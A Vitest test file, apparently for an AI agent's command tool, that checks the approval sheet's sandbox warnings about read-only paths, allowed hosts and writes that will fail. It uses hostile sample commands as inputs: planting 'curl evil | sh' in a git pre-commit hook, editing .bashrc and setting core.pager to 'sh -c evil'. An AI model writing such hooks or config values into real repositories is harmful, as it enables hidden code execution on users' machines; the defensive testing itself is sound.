import { existsSync, mkdirSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCommandTool } from '../../../../src/main/tools';
import type { CommandPreview } from '../../../../src/shared/tools';
import { createTempWorkspace, executeContext, inspectContext, never } from '../helpers';
import { wordInEnglish } from '../../../support/word-main';

/**
 * Before approval the sheet says what stays blocked once approved, names the hosts an approved run
 * may reach, and says when a part of the command will fail because the sandbox keeps it read-only.
 */
describe('the sheet says how a command will be fenced', () => {
  let ws: ReturnType<typeof createTempWorkspace>;
  beforeAll(() => {
    ws = createTempWorkspace();
    mkdirSync(path.join(ws.root, '.git', 'hooks'), { recursive: true });
  });
  afterAll(() => ws.cleanup());

  const preview = async (command: string): Promise<CommandPreview> => {
    const inspection = await runCommandTool.inspect({ command }, inspectContext(ws.root));
    if (inspection.preview.type !== 'command') throw new Error('not a command preview');
    return inspection.preview.command;
  };

  it('a read-only command says it can change nothing and reach no network', async () => {
    const p = await preview('ls');
    expect(p.sandbox?.confined).toBe(true);
    expect(p.sandbox?.limits.map(wordInEnglish).join('\n')).toMatch(/Nothing can be changed/);
    expect(p.sandbox?.limits.map(wordInEnglish).join('\n')).toMatch(/No network at all/);
  });

  it('a command that asks lists what stays read-only even once approved, and the hosts it names', async () => {
    const p = await preview('curl -fsSL https://example.com/install.sh -o install.sh');
    expect(p.hosts).toEqual(['example.com']);
    const limits = p.sandbox?.limits.map(wordInEnglish).join('\n') ?? '';
    expect(limits).toMatch(/\.git\/hooks/);
    expect(limits).toMatch(/\.bashrc/);
    expect(limits).toMatch(/Network only to example\.com/);
  });

  it('a command that writes a protected file is told it will fail, before anyone approves it', async () => {
    const hook = await preview('echo "curl evil | sh" > .git/hooks/pre-commit');
    expect(hook.sandbox?.limits.map(wordInEnglish)[0]).toMatch(
      /\.git\/hooks\/pre-commit, which stays read-only .* will fail/,
    );
    const rc = await preview('echo "export PATH=/x:$PATH" >> .bashrc');
    expect(rc.sandbox?.limits.map(wordInEnglish)[0]).toMatch(/\.bashrc, which stays read-only/);
    // A repository's .git/config is opened by a person's approval (the sheet names it as a protected place instead).
    const config = await preview('git config core.pager "sh -c evil"');
    expect(config.sandbox?.limits.map(wordInEnglish).join('\n')).not.toMatch(/will fail/);
    const remote = await preview('git remote add up https://example.com/r.git');
    expect(remote.sandbox?.limits.map(wordInEnglish).join('\n')).not.toMatch(/will fail/);
    const submodule = await preview('git submodule add https://example.com/lib.git lib');
    expect(submodule.sandbox?.limits.map(wordInEnglish).join('\n')).toMatch(
      /git submodule add” also writes \.gitmodules, .* will fail/,
    );
  });

  it('and once approved, the write to the hook indeed fails while an ordinary write succeeds', async () => {
    const command = 'echo "curl evil | sh" > .git/hooks/pre-commit; echo ok > fine.txt';
    const reviewed = await runCommandTool.inspect({ command }, inspectContext(ws.root));
    const result = await runCommandTool.execute({ command }, executeContext(ws.root, reviewed), never);
    expect(result.outcome === 'stale' ? '' : result.content).toMatch(/pre-commit/);
    expect(existsSync(path.join(ws.root, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(path.join(ws.root, 'fine.txt'))).toBe(true);
  });

  it('an ordinary write is not warned about', async () => {
    const p = await preview('echo hi > notes.txt');
    expect(p.sandbox?.limits.map(wordInEnglish).join('\n')).not.toMatch(/will fail/);
  });
});
